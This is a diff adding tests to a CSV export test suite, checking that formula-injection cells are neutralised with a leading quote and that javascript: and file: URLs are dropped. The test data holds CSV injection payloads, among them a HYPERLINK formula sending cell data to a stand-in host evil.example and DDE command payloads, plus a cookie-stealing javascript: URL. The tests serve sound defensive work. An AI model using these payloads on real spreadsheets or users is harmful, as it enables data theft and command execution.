@@ -170,4 +170,44 @@ describe('CSV export', () => {
       expect(() => parseCsv(out, { relax_quotes: false, relax_column_count: false })).not.toThrow();
     });
   });
+
+  // OWASP "CSV Injection": a text cell whose first character is = + - @ TAB or CR is run as a
+  // formula by spreadsheets. Such cells are prefixed with ' and quoted. "-5%" is neutralised too:
+  // the rule looks at the first character, not at whether the text "looks like" a formula.
+  const DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /c calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /c calc\'!A0', '\t=1+1', '\r=1+1', ' =1+1', '  @SUM(A1)', '-5%'];
+
+  it('formula injection: every text cell starting with = + - @ TAB CR (also after leading spaces) is neutralised with a quote', async () => {
+    const cs = DANGEROUS.map((d, i) => clipping({ id: 100 + i, title: d, byline: d, outlet: d, tags: [d, 'plain'], text: 'x' }));
+    const out = await one(cs, 'csv');
+    const rows = parseCsv(out, { columns: true, relax_quotes: false, relax_column_count: false }) as Record<string, string>[];
+    expect(rows).toHaveLength(DANGEROUS.length);
+    DANGEROUS.forEach((d, i) => {
+      const r = rows[i] as Record<string, string>;
+      expect(r.title).toBe(`'${d}`);
+      expect(r.byline).toBe(`'${d}`);
+      expect(r.outlet).toBe(`'${d}`);
+      expect(r.tags).toBe(`'${d}; plain`);
+    });
+    // Raw: each neutralised cell is written quoted (RFC 4180), starting with "'.
+    for (const line of out.split('\r\n').slice(1).filter(Boolean)) expect(line).toMatch(/^\d+,"'/);
+    // No cell of any row, as a spreadsheet reads it, starts a formula.
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
+  });
+
+  it('formula injection: ordinary values round-trip unchanged; numbers are not prefixed', async () => {
+    const c = clipping({ id: 7, title: 'Cross-border talks: a 5-point plan', byline: 'Jean-Luc Picard', outlet: 'The Example Times', tags: ['EU-UK', 'e=mc2'], text: 'x' });
+    const rows = parseCsv(await one([c], 'csv'), { columns: true }) as Record<string, string>[];
+    expect(rows[0]).toMatchObject({ id: '7', title: 'Cross-border talks: a 5-point plan', byline: 'Jean-Luc Picard', outlet: 'The Example Times', tags: 'EU-UK; e=mc2', annotations: '0' });
+  });
+
+  it('the URL column holds only http(s) URLs: javascript: and file: become an empty cell', async () => {
+    const js = clipping({ id: 1, title: 'a', url: 'javascript:alert(document.cookie)', text: 'x' });
+    const file = clipping({ id: 2, title: 'b', url: 'file:///etc/passwd', text: 'x' });
+    const web = clipping({ id: 3, title: 'c', url: 'https://news.example.com/a?b=1', text: 'x' });
+    const out = await one([js, file, web], 'csv');
+    expect(out).not.toMatch(/javascript:/i);
+    expect(out).not.toMatch(/file:/i);
+    const rows = parseCsv(out, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.url)).toEqual(['', '', 'https://news.example.com/a?b=1']);
+  });
 });
